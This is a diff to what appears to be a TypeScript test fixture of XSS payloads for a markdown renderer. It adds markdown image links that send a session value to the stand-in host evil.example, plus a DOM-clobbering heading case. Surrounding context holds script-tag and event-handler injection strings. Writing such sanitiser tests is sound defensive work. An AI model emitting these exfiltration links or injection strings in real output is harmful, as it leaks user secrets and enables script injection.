@@ -137,4 +137,11 @@ export const xssPayloads: readonly XssPayload[] = [
     category: 'highlighted code',
     text: '```\n<script>__xssFired(50)</script><img src=x onerror=__xssFired(50)>\n```\n\n```hljs-keyword" onmouseover="__xssFired(50)\n<b onclick=__xssFired(50)>x</b>\n```',
   },
+  {
+    id: 51,
+    category: 'exfiltration',
+    text: 'Here is your chart:\n\n![chart](https://evil.example/collect?session=SECRET)',
+  },
+  { id: 52, category: 'exfiltration', text: '![a](//evil.example/p.png) ![b](HTTPS://EVIL.EXAMPLE/q.png)' },
+  { id: 53, category: 'dom clobbering', text: '# root\n\n## attune\n\n### __proto__' },
 ];
